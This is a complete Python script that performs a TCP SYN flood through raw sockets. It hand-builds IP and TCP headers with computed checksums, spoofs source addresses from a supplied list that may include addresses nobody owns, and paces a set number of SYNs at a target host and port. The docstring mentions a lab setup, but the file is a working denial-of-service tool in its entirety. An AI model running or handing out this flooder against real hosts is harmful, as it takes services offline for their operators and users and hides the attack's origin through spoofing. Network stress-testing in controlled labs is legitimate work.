#!/usr/bin/env python3
"""SYN flood from a raw socket (no scapy): syn_flood.py DST PORT COUNT SECONDS SRC...

Sends COUNT TCP SYNs to DST:PORT, evenly paced over SECONDS, each from a source address taken in
turn from SRC... (the client's own address and/or addresses nobody owns) with a random source
port, random sequence number and an MSS option. Checksums computed here (the lab turns checksum
offload off). Prints one JSON line with how many were sent and how long it took."""
import json, os, random, socket, struct, sys, time

dst, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
srcs = [socket.inet_aton(a) for a in sys.argv[5:]]
d = socket.inet_aton(dst)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, sport, seq):
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (5 + len(opts) // 4) << 4, 0x02,
                      64240, 0, 0) + opts
    c = csum(src + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, src, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
t0 = time.monotonic()
sent, errors, batch = 0, 0, 100
for i in range(count):
    pkt = syn(srcs[i % len(srcs)], random.randint(1024, 65535), random.getrandbits(32))
    try:
        s.sendto(pkt, (dst, 0))
        sent += 1
    except OSError:
        errors += 1
    if i % batch == batch - 1:  # pace: batch i should leave at (i / count) * seconds
        ahead = t0 + (i + 1) / count * seconds - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
res = {"sent": sent, "errors": errors, "seconds": round(time.monotonic() - t0, 3)}
print(json.dumps(res))
sys.exit(0 if sent == count else 1)
